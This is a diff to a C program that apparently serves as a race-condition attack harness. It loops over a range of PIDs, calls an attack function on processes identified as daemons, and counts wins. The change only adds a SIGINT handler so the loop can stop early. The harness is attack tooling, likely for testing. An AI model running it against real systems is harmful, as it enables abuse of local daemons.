@@ -9,6 +9,9 @@
 #include <time.h>
 
 static long won, looked, later;
+static volatile sig_atomic_t stop;
+
+static void on_signal(int signal) { stop = signal; }
 
 static int is_daemon(pid_t pid, const char *executable) {
   char link[64], target[PATH_MAX];
@@ -36,10 +39,11 @@ int main(int argc, char **argv) {
   if (argc < 4) return 1;
   time_t end = time(0) + atoi(argv[2]);
   pid_t from = atoi(argv[3]), self = getpid();
+  signal(SIGINT, on_signal);
   printf("ready OK\n");
   fflush(stdout);
-  while (time(0) < end)
-    for (pid_t pid = from; pid < from + 4000; pid++)
+  while (!stop && time(0) < end)
+    for (pid_t pid = from; !stop && pid < from + 4000; pid++)
       if (pid != self) attack(pid, argv[1]);
   printf("looked %ld\nwon %ld\nlater %ld\n", looked, won, later);
   return 0;
